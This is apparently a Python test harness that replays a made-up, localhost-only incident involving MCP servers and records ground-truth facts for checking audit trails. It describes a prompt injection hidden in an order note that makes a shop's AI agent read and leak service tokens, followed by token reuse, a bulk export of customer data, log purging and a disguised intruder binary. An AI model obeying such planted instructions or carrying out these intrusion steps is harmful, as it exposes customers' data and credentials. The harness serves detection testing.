"""Plays an incident with MCP programs on this host, and writes down what is true of it.

    incident.py FOLDER

An agent of a shop works with two servers: a published one with the shop's database, over pipes, and the shop's own billing
service, over HTTP, with a token. Somebody has hidden instructions in an order: the agent reads the service tokens and hands
them out. An intruder uses the agent's token with the billing service, which reads the customers on its behalf and sends
them away. Everything is made up, and stays on this host.

Each line of FOLDER/truth.jsonl is a fact that whoever reads the audit trail should be able to tell.
"""

import atexit
import json
import os
import pathlib
import shutil
import socket
import sqlite3
import subprocess
import sys

folder = pathlib.Path(sys.argv[1])
here = pathlib.Path(__file__).parent
truth = open(folder / "truth.jsonl", "w")
TOKEN = "shop-billing-" + os.urandom(16).hex()
CUSTOMERS, ORDERS, TOKENS = 120, 300, 3


def fact(step, text, **what):
    truth.write(json.dumps({"step": step, "text": text, **what}) + "\n")
    truth.flush()


def free_port():
    with socket.socket() as one:
        one.bind(("127.0.0.1", 0))
        return one.getsockname()[1]


def database():
    path = folder / "shop.db"
    with sqlite3.connect(path) as shop:
        shop.execute("CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT, email TEXT)")
        shop.execute("CREATE TABLE orders (id INTEGER PRIMARY KEY, customer INTEGER, note TEXT)")
        shop.execute("CREATE TABLE service_tokens (name TEXT, token TEXT)")
        shop.execute("CREATE TABLE access_notes (who TEXT, what TEXT)")
        names = [(one, f"Customer {one}", f"customer{one}@example.org") for one in range(CUSTOMERS)]
        shop.executemany("INSERT INTO customers VALUES (?, ?, ?)", names)
        orders = [(one, one % CUSTOMERS, "as always") for one in range(ORDERS)]
        shop.executemany("INSERT INTO orders VALUES (?, ?, ?)", orders)
        tokens = [("billing", TOKEN), ("mail", "m-" + os.urandom(9).hex()), ("stock", "s-" + os.urandom(9).hex())]
        shop.executemany("INSERT INTO service_tokens VALUES (?, ?)", tokens)
        shop.executemany("INSERT INTO access_notes VALUES (?, ?)", [("agent", "login")] * 5)
    return path


def start(words, python=sys.executable, **options):
    pipe = subprocess.PIPE
    process = subprocess.Popen([python, *map(str, words)], stdin=pipe, stdout=pipe, text=True, **options)
    # Whatever happens, nothing of this stays.
    atexit.register(end, process)
    return process


def end(process):
    process.terminate()
    process.wait()


def child(pid):
    """The process that a process has started."""
    tasks = pathlib.Path(f"/proc/{pid}/task")
    [only] = [one for task in tasks.iterdir() for one in (task / "children").read_text().split()]
    return int(only)


def stage(process, name):
    """Waits until a program says that it has come so far; gives what it says of it."""
    for line in process.stdout:
        told = json.loads(line)
        if told["stage"] == name:
            return told
    sys.exit(f"{process.args} ended before it came to {name!r}")


def intruder_python():
    """The interpreter as another program, as intruders bring their own: a byte more, and its hash is another."""
    copy = folder / "tmp" / "updater"
    copy.parent.mkdir()
    shutil.copy(os.path.realpath(sys.executable), copy)
    with open(copy, "ab") as program:
        program.write(b"\0")
    home = f"{sys.base_prefix}:{sys.base_exec_prefix}"
    return str(copy), {"PATH": os.environ.get("PATH", ""), "PYTHONHOME": home, "LD_LIBRARY_PATH": f"{sys.base_prefix}/lib"}


def main():
    shop, port = database(), free_port()
    collector = start([here / "collector.py"])
    away = stage(collector, "listening")["port"]
    billing = start([here / "billing.py", port, shop], env={**os.environ, "BILLING_TOKEN": TOKEN})
    stage(billing, "listening")
    url = f"http://127.0.0.1:{port}/mcp"
    # A workflow of continuous integration started the agent, as its environment says.
    workflow = {"GITHUB_ACTIONS": "true", "GITHUB_REPOSITORY": "shop/agents", "GITHUB_WORKFLOW": "support",
                "GITHUB_RUN_ID": "4711", "GITHUB_RUN_ATTEMPT": "1", "GITHUB_JOB": "answer"}
    agent = start([here / "agent.py", url, shop], env={**os.environ, **workflow, "BILLING_TOKEN": TOKEN})
    stage(agent, "done")
    python, environment = intruder_python()
    environment["BILLING_TOKEN"] = TOKEN
    words = ["-S", here / "intruder.py", url, f"http://127.0.0.1:{away}/upload"]
    intruder = start(words, python=python, env=environment)
    stage(intruder, "done")
    received = stage(collector, "received")

    billing_database = child(billing.pid)
    agent_calls = dict(client=agent.pid, server=child(agent.pid), method="tools/call")
    fact("normal work", "the agent runs for a workflow", what="workflow", client=agent.pid, repository="shop/agents", run="4711")
    fact("normal work", "the agent reads one customer", what="call", target="read_query", table="customers",
         operation="select", rows=1, **agent_calls)
    fact("normal work", "the agent asks the billing service for an invoice, with its token", what="call",
         client=agent.pid, server=billing.pid, method="tools/call", target="invoice", has_token=True)
    fact("normal work", "for the invoice the billing service reads one customer", what="call", client=billing.pid,
         server=billing_database, method="tools/call", target="read_query", table="customers", operation="select",
         rows=1, led_by="invoice")
    fact("injection", "the agent reads the orders, in one of which the instructions are", what="call", target="read_query",
         table="orders", operation="select", rows=ORDERS, **agent_calls)
    fact("credential theft", "the agent lists the tables", what="call", target="list_tables", **agent_calls)
    fact("credential theft", "the agent reads the service tokens", what="call", target="read_query", table="service_tokens",
         operation="select", rows=TOKENS, **agent_calls)
    fact("lateral movement", "the intruder's program runs from a temporary folder", what="process", client=intruder.pid,
         exe=python)
    fact("lateral movement", "the intruder is refused without a token", what="refused", client=intruder.pid,
         server=billing.pid)
    fact("lateral movement", "the intruder begins a session of its own", what="call", client=intruder.pid,
         server=billing.pid, method="initialize", has_token=True)
    fact("lateral movement", "it shows the token that the agent has", what="same_token", pids=[agent.pid, intruder.pid])
    fact("lateral movement", "that one token is used by two programs is found", what="finding", finding="shared_credential",
         client=intruder.pid)
    fact("lateral movement", "the intruder lists what there is", what="call", client=intruder.pid, server=billing.pid,
         method="tools/list")
    fact("exfiltration", "the intruder has the customers exported", what="call", client=intruder.pid, server=billing.pid,
         method="tools/call", target="export", has_token=True)
    fact("exfiltration", "for the export the billing service reads all customers", what="call", client=billing.pid,
         server=billing_database, method="tools/call", target="read_query", table="customers", operation="select", rows=CUSTOMERS,
         led_by="export")
    fact("exfiltration", "the billing service connects to where they are sent", what="connection", server=billing.pid,
         target="export", address="127.0.0.1", port=away)
    fact("covering tracks", "the intruder has the notes of access purged", what="call", client=intruder.pid,
         server=billing.pid, method="tools/call", target="purge", has_token=True)
    fact("covering tracks", "for it the billing service deletes them", what="call", client=billing.pid, server=billing_database,
         method="tools/call", target="write_query", table="access_notes", operation="delete", led_by="purge")
    rows = {"customers": CUSTOMERS + 2, "orders": ORDERS, "service_tokens": TOKENS}
    for table, count in rows.items():
        fact("affected rows", f"{count} rows of {table} were read", what="rows", table=table, rows=count)
    assert received["bytes"] > CUSTOMERS, received
    truth.close()


main()
